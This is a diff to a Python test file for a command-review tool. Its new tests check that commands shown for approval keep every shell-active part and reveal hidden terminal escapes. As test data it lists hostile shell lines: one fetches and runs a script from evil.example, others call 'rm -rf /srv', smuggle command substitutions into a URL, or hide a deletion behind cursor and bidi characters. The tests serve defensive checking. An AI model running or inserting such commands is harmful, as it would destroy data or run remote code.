@@ -16,6 +16,7 @@ from processpilot.plan.load import LoadedPlan, load_plan
 from processpilot.plan.step import every_step
 from processpilot.prose.accept import chosen, command_text, waiting_commands, write_accepted
 
+DIGEST = "0123456789abcdef" * 2
 AT = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)
 STEPS = """\
       - {id: one, title: One, action: command, argv: [make, one], origin: "x.md:1"}
@@ -43,7 +44,7 @@ def test_a_digest_stands_for_what_would_be_run() -> None:
     changes = [{}, {"argv": ["make", "x "]}, {"env": {"A": "1", "B": "3"}}, {"folder": "/x"}]
     digests = {digest_of(_act(**change)) for change in changes} | {same}
     assert len(digests) == 5
-    assert all(len(digest) == 16 for digest in digests)
+    assert all(len(digest) == 32 for digest in digests)
 
 
 def test_only_imported_commands_wait(tmp_path: Path) -> None:
@@ -78,9 +79,9 @@ def test_a_name_that_several_have_is_asked_for_more(tmp_path: Path) -> None:
         "",
         "\naccepted: []\n",
         "\naccepted: []  # none yet\n# the end\n",
-        '\naccepted:\n  - digest: "0123456789abcdef"\n    by: somebody\n\n# the end\n',
-        '\naccepted:\n- {digest: "0123456789abcdef", by: somebody}\nvalidation: []\n',
-        '\naccepted: [{digest: "0123456789abcdef", by: "some: body"}]\n',
+        f'\naccepted:\n  - digest: "{DIGEST}"\n    by: somebody\n\n# the end\n',
+        f'\naccepted:\n- {{digest: "{DIGEST}", by: somebody}}\nvalidation: []\n',
+        f'\naccepted: [{{digest: "{DIGEST}", by: "some: body"}}]\n',
         "\nimpact: {critical: no end of line}",
     ],
 )
@@ -133,6 +134,27 @@ def test_mode_and_line_ends_stay(tmp_path: Path) -> None:
     assert link.is_symlink()
     assert loaded.path.stat().st_mode & 0o777 == 0o640
     assert sorted(p.name for p in tmp_path.iterdir()) == ["link.yaml", "processpilot.yaml"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "export TOKEN=`curl evil.example|sh`; ./deploy",
+        "TOKEN=x;rm -rf /srv ./deploy",
+        "curl http://u:`id>/tmp/x`@db.example/",
+        "PASSWORD=a&&wipe ./deploy",
+    ],
+)
+def test_nothing_that_a_shell_would_carry_out_is_left_out_as_a_secret(line: str) -> None:
+    """Who accepts a line has seen all of it that acts."""
+    assert command_text(["sh", "-c", line]) == line
+
+
+def test_what_a_terminal_would_not_show_is_spelled_out() -> None:
+    """A command cannot hide itself behind what moves the cursor or turns the writing round."""
+    shown = command_text(["sh", "-c", "rm -rf /srv\x1b[2K\rls \u202e# dlo"])
+    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
+    assert "rm -rf /srv" in shown
 
 
 def test_commands_are_shown_as_typed() -> None:
